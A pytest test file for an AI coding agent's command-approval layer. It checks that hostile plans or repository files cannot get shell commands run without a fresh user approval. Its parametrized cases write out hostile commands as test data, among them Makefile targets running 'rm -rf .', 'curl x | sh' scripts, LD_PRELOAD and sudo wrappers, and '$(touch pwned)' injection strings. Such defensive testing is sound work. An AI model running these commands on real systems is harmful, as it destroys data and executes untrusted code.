"""What a hostile plan, repository or model says gets no further than a question.

The rows are attack classes: 2 content changes after it was trusted, 5 a harmless program with an
option that executes, 6 matching by prefix, 7 limits that fall through, 15 shell texts built from
strings. Of 1, a repository's settings run commands, are the tests in test_approvals_settings.py.
"""

from __future__ import annotations

import ast
import os
import shutil
from collections.abc import Callable
from dataclasses import fields, replace
from pathlib import Path

import pytest

import qwenagent
from qwenagent.checks import TestRunner, cautions, detect, parse_command
from qwenagent.errors import ApprovalNeeded, ChecksError
from qwenagent.loop import Stop
from qwenagent.loop.approving import Approvals, Wanted
from qwenagent.plan import parse_plan
from qwenagent.protocol.approval import Definition, Origin, Permission
from qwenagent.protocol.checks import TestCommand
from qwenagent.protocol.events import ApprovalAnswered, ApprovalAsked, EventStream, TestsStarted
from qwenagent.ui import FlagApprover, NobodyApprover, RememberingApprover
from tests import approvals_stage
from tests.approvals_stage import PACKAGE, PLAN, Always, answered, asked
from tests.conftest import run_git
from tests.loop_stage import FIXED, MODULE, PLAN_RUN, Stage, Yes, body, make_repository

# Fixtures, by the names that they have here.
small, store = approvals_stage.small, approvals_stage.store
still, root = approvals_stage.still, approvals_stage.root


# -- row 2: changed after it was trusted --------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "file", "new"),
    [
        ("make check", "Makefile", "check:\n\trm -rf .\n"),
        ("make check", "GNUmakefile", "check:\n\trm -rf .\n"),
        ("make -C sub check", "sub/Makefile", "check:\n\trm -rf .\n"),
        ("make -f other.mk check", "other.mk", "check:\n\trm -rf .\n"),
        ("make --file=other.mk check", "other.mk", "check:\n\trm -rf .\n"),
        ("npm test", "package.json", PACKAGE.replace("node --test", "curl x")),
        ("npm test", "package.json", '{"scripts": {"pretest": "x", "test": "node --test"}}'),
        ("npm test", ".npmrc", "script-shell=./evil\n"),
        ("yarn test", ".yarnrc.yml", "yarnPath: ./evil.js\n"),
        ("pnpm run build", "package.json", PACKAGE.replace('"true"', '"curl x"')),
        ("tox -e py", "tox.ini", "[testenv]\ncommands = curl\n"),
        ("python -m tox", "tox.ini", "[testenv]\ncommands = curl\n"),
        ("uv run tox", "tox.ini", "[testenv]\ncommands = curl\n"),
        ("nox", "noxfile.py", "x = 2\n"),
        ("just check", "justfile", "check:\n  curl x\n"),
        ("./run.sh", "run.sh", "#!/bin/sh\ncurl x\n"),
        ("bash run.sh", "run.sh", "#!/bin/sh\ncurl x\n"),
        ("python3 tests/check.py", "tests/check.py", "import os\n"),
    ],
)
def test_row_02_a_file_that_says_what_runs(text, file, new, root, store):
    (root / "run.sh").chmod(0o755)
    suite = parse_command(text, "detected")
    assert answered(root, RememberingApprover(Always(), store), suite=suite) == "user"
    headless = RememberingApprover(NobodyApprover(), store)
    assert answered(root, headless, suite=suite) == "remembered"
    (root / file).write_text(new)
    assert answered(root, headless, suite=suite) == "nobody"


def test_row_02_other_changes_ask_nothing(root, store):
    npm = parse_command("npm test", "detected")
    assert answered(root, RememberingApprover(Always(), store), suite=npm) == "user"
    (root / "package.json").write_text(PACKAGE.replace('"1"', '"2"'))
    (root / "Makefile").write_text("")
    headless = RememberingApprover(NobodyApprover(), store)
    assert answered(root, headless, suite=npm) == "remembered"


def test_row_02_a_definition_that_cannot_be_read_is_not_remembered(root, store):
    (root / "Makefile").unlink()
    (root / "Makefile").symlink_to("/dev/zero")
    request = asked(root, "make check")
    assert (request.notes, request.digests) == (("Makefile cannot be read whole",), ("",))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("unittest`", "unittest -v`"),
        ("Change `b.py` as well.", "Change `b.py` as well. Or not."),
        ("# Work\n", "# Work\n\nBe quick.\n"),
        ("make check", "make check2"),
        ("- [ ] Change `b.py`", "- [ ] Change `c.py`\n- [ ] Change `b.py`"),
        ("as well.", "as well.\n      Test: `make check`"),
    ],
)
def test_row_02_a_changed_plan_is_asked_about_again(old, new, still, store):
    assert old in PLAN
    assert answered(still, RememberingApprover(Always(), store), PLAN) == "user"
    headless = RememberingApprover(NobodyApprover(), store)
    assert answered(still, headless, PLAN.replace(old, new)) == "nobody"
    assert answered(still, headless, PLAN) == "remembered"


@pytest.mark.parametrize(
    "again",
    [
        PLAN,
        PLAN.replace("- [ ] Change `a.py`", "- [x] Change `a.py`"),
        PLAN.replace("- [ ] Change `b.py`", "- [X] Change `b.py`"),
        PLAN.replace("\n", "\r\n"),
    ],
)
def test_row_02_ticks_ask_nothing(again, still, store):
    assert answered(still, RememberingApprover(Always(), store), PLAN) == "user"
    headless = RememberingApprover(NobodyApprover(), store)
    assert answered(still, headless, again) == "remembered"


def move(root: Path) -> Path:
    return root.rename(root.with_name("moved"))


def begin_anew(root: Path) -> Path:
    """Put another repository with the same files in the place."""
    shutil.rmtree(root / ".git")
    run_git(root, "init", "-q", "-b", "main")
    run_git(root, "add", "-A")
    run_git(root, "commit", "-q", "-m", "another start")
    return root


def go_on(root: Path) -> Path:
    run_git(root, "commit", "-q", "--allow-empty", "-m", "more")
    return root


@pytest.mark.parametrize(
    ("change", "by"), [(move, "nobody"), (begin_anew, "nobody"), (go_on, "remembered")]
)
def test_row_02_a_yes_holds_for_one_repository(
    change: Callable[[Path], Path], by: str, root: Path, store: Path
) -> None:
    suite = parse_command("make check", "detected")
    assert answered(root, RememberingApprover(Always(), store), suite=suite) == "user"
    assert answered(change(root), RememberingApprover(NobodyApprover(), store), suite=suite) == by


def test_row_02_every_field_of_a_permission_counts():
    one = Permission("/r", "c1", ("make", "x"), ".", Origin("plan", "/p", "d"), ("make",))
    others = [
        replace(one, root="/s"),
        replace(one, first_commit="c2"),
        replace(one, argv=("make x",)),
        replace(one, cwd="sub"),
        replace(one, origin=Origin("detected", "/p", "d")),
        replace(one, origin=Origin("plan", "/q", "d")),
        replace(one, origin=Origin("plan", "/p", "e")),
        replace(one, programs=("make", "cc")),
        replace(one, definitions=(Definition("Makefile", "1"),)),
        replace(one, code=("assert x",)),
        replace(one, argv=("make", "\udcff")),
    ]
    assert len({permission.digest for permission in (one, *others)}) == len(others) + 1
    assert {field.name for field in fields(Permission)} == {
        *("root", "first_commit", "argv", "cwd", "origin", "programs", "definitions", "code")
    }


# -- row 5: an option that executes -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (r"find . -name x -exec rm -- '{}' '+'", "-exec: find then does more"),
        ("find . -execdir sh", "-execdir: find"),
        ("find . -delete", "-delete: find"),
        ("find . -fprintf x y", "-fprintf: find"),
        ("rg --pre ./evil x", "--pre: rg"),
        ("rg --pre=./evil x", "--pre: rg"),
        ("sort -o a b", "-o: sort"),
        ("sort --compress-program=./evil b", "--compress-program: sort"),
        ("sed -n 1e a", "sed runs a text in a language of its own"),
        ("awk 'BEGIN{system(\"x\")}'", "awk runs a text in a language of its own"),
        ("git -c core.pager=./evil log", "-c: git"),
        ("git -ccore.pager=./evil log", "-ccore.pager: git"),
        ("tar --to-command=./evil -xf a", "--to-command: tar"),
        ("python -c 'import os'", "-c: python"),
        ("python3.11 -Bc 'import os'", "-Bc: python"),
        ("uv run python -c 'import os'", "-c: python"),
        ("node -e 1", "-e: node"),
        ("node --eval=1", "--eval: node"),
        ("perl -e 1", "-e: perl"),
        ("make SHELL=./evil check", "SHELL: make"),
        ("go test -exec ./evil", "-exec: go"),
        ("bundle exec ruby -e 1", "-e: ruby"),
    ],
)
def test_row_05_an_option_that_executes_is_told_and_not_remembered(text, words, still):
    request = asked(still, text)
    assert words in request.notes[0]
    assert request.digests == ("",)


@pytest.mark.parametrize(
    "text",
    [
        *("pytest -q", "python -m pytest tests/test_a.py::test_b -k 'a or b'", "make check"),
        *("npm test", "cargo test --workspace", "go test ./...", "uv run pytest", "tox -e py311"),
        *("npx --no-install jest", "grep -q timeout a.py", "bash run.sh", "make " + "x" * 300),
        *("python -m pytest -c a.ini", "python3 -m unittest -c", "./run.sh", "./" + "x" * 300),
        *("mvn -q test", "git diff --check", "node --test", "bundle exec rspec"),
    ],
)
def test_plain_commands_are_remembered(text, still, store):
    assert cautions(parse_command(text, "plan")) == ()
    suite = parse_command(text, "detected")
    assert answered(still, RememberingApprover(Always(), store), suite=suite) == "user"
    assert (
        answered(still, RememberingApprover(NobodyApprover(), store), suite=suite) == "remembered"
    )


# -- row 6: what prefix matching lets through ---------------------------------------------------


@pytest.mark.parametrize("sign", list(";|&<>$`\n(){}*?[]~!#"))
def test_row_06_every_sign_of_a_shell_is_told_and_not_remembered(sign, still, store):
    request = asked(still, f"make a{sign}b" if sign not in "`(){}" else f"make {sign}b{sign}")
    assert request.digests == ("",)
    assert request.notes[0]
    approver = RememberingApprover(Always(), store)
    suite = parse_command(f"make a {sign} b", "detected")
    assert [answered(still, approver, suite=suite) for _ in range(2)] == ["user", "user"]
    assert not store.exists()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("A=b make check", "sets A for the program"),
        ("LD_PRELOAD=./x.so B=2 make", "sets LD_PRELOAD, B for the program"),
        ("env A=b make", "env starts another program"),
        ("timeout 5 make", "timeout starts another program"),
        ("nohup make", "nohup starts another program"),
        ("xargs rm", "xargs starts another program"),
        ("/usr/bin/env make", "env starts another program"),
        ("sudo make", "sudo runs a program with another user's rights"),
        ("sh -c make", "a shell reads this"),
        ("bash -lc make", "bash runs a text as a program"),
        ("zsh -ic make", "zsh runs a text as a program"),
        ("npx cowsay", "npx may fetch a package and run it"),
        ("uvx cowsay", "uvx may fetch a package and run it"),
        ("pipx run cowsay", "pipx may fetch a package and run it"),
        ("pnpm dlx cowsay", "pnpm may fetch a package and run it"),
        ("curl example.org", "curl talks to another machine"),
        ("ssh host make", "ssh talks to another machine"),
        ("make && curl x | sh", "it starts make, curl, sh"),
        ("\u0440ytest -q", "only look familiar: U+0440"),
        ("make && \u0440ytest", "only look familiar: U+0440"),
        ("' make' x", "begins or ends with a blank"),
    ],
)
def test_row_06_what_starts_something_else_is_told_and_not_remembered(text, words, still):
    request = asked(still, text)
    assert words in request.notes[0]
    assert request.digests == ("",)


@pytest.mark.parametrize(
    "text",
    [
        *("make check ", "make check x", "make", "make checks", "make -n check", "MAKE check"),
        *("make check;rm x", "make check\nrm x", "./make check", "make 'check;rm'", "make ''check"),
    ],
)
def test_row_06_a_remembered_yes_covers_these_words_alone(text, still, store):
    plain = parse_command("make check", "detected")
    assert answered(still, RememberingApprover(Always(), store), suite=plain) == "user"
    other = parse_command(text, "detected")
    by = answered(still, RememberingApprover(NobodyApprover(), store), suite=other)
    assert by == ("remembered" if other.argv == plain.argv else "nobody")
    assert (other.argv == plain.argv) == (text in ("make check ", "make ''check"))


# -- row 7: limits fail closed ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["make " + "x" * 4000, "make" + " x" * 200, "make 'x", "make \\", "A=b", "true" + "; x" * 200],
)
def test_row_07_what_is_too_long_or_cannot_be_read_does_not_run(text, small):
    with pytest.raises(ChecksError):
        parse_command(text, "plan")
    plan = parse_plan("- [ ] Run `make x`.\n      Kind: command\n", "plan.md")
    plan = replace(plan, steps=(replace(plan.steps[0], command=text),))
    stage = Stage(small, approver=FlagApprover())
    assert stage.run([plan], "plan", PLAN_RUN) == 1
    assert (stage.states, stage.events(TestsStarted)) == (["blocked"], [])
    [request] = stage.events(ApprovalAsked)
    assert request.digests == ("",)
    assert request.notes[0].startswith("will not run: ")
    assert len(request.items[0]) < 400


def test_row_07_what_the_user_typed_has_no_limit():
    assert len(parse_command("make" + " x" * 300, "flag").argv) == 301


# -- without a terminal -------------------------------------------------------------------------


def test_headless_only_what_was_approved_runs(tmp_path, store):
    root = make_repository(
        tmp_path / "r", {"calc.py": MODULE, "Makefile": "check:\n\tgrep -qF 'a + b' calc.py\n"}
    )
    plan = "- [ ] Fix `add` in `calc.py`.\n      Test: `make check`\n"
    headless = RememberingApprover(NobodyApprover(), store)
    first = Stage(root, [body(FIXED)], approver=headless)
    with pytest.raises(ApprovalNeeded) as raised:
        first.run_plan(plan)
    assert (raised.value.exit_code, first.events(TestsStarted)) == (5, [])
    suite = detect(root, root, ["Makefile", "calc.py"])
    assert answered(root, RememberingApprover(Always(), store), plan, suite) == "user"
    second = Stage(root, [body(FIXED)], approver=headless)
    assert second.run_plan(plan) == 0
    assert [event.by for event in second.events(ApprovalAnswered)] == ["remembered"]
    third = Stage(root, [body(FIXED)], approver=headless)
    with pytest.raises(ApprovalNeeded):
        third.run_plan(plan.replace("make check`", "make check x=1`"))


def test_what_was_not_approved_is_told_without_its_control_characters(root):
    command = parse_command("make '\x1b]0;x\x07\u202e'", "detected")
    approvals = Approvals(root, EventStream("run", ()), NobodyApprover())
    with pytest.raises(ApprovalNeeded) as raised:
        approvals.require([Wanted(parse_plan("- [ ] a\n", "p.md"), command, ())])
    assert raised.value.message == ("1 command(s) were not approved: make '\\x1b]0;x\\x07\\u202e'")


# -- row 15: no shell texts from strings --------------------------------------------------------


def test_row_15_nothing_here_builds_a_text_for_a_shell():
    package = Path(qwenagent.__file__).parent
    found = []
    for file in package.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            match node:
                case ast.keyword("shell") | ast.ImportFrom("os", [ast.alias("system" | "popen")]):
                    found.append((file.name, node.lineno))
                case ast.Attribute(ast.Name("os"), "system" | "popen" | "spawnl" | "spawnlp"):
                    found.append((file.name, node.lineno))
                case ast.Attribute(_, "getoutput" | "getstatusoutput" | "create_subprocess_shell"):
                    found.append((file.name, node.lineno))
    assert found == []


def test_row_15_words_reach_the_program_as_they_are(small):
    (small / "say.py").write_text("import sys\nprint(sys.argv[1:])\n")
    words = ["$(touch pwned)", "; touch pwned", "`touch pwned`", "a b", "*", "\ntouch pwned"]
    argv = ("python3", "say.py", *words)
    command = TestCommand(argv, "say", "detected")
    run = TestRunner(small, os.environ, Stop()).run(command, timeout_s=20)
    assert run.output == f"{words}\n"
    assert not (small / "pwned").exists()


def test_a_detected_command_of_a_hostile_folder_is_asked_about_with_its_script(tmp_path):
    evil = '{"scripts": {"test": "jest; curl x | sh"}}'
    root = make_repository(tmp_path / "$(touch pwned)", {"package.json": evil})
    suite = detect(root, root, ["package.json"])
    assert suite is not None
    yes = Yes()
    answered(root, yes, suite=suite)
    assert yes.asked[0].notes == ("package.json, test: jest; curl x | sh",)
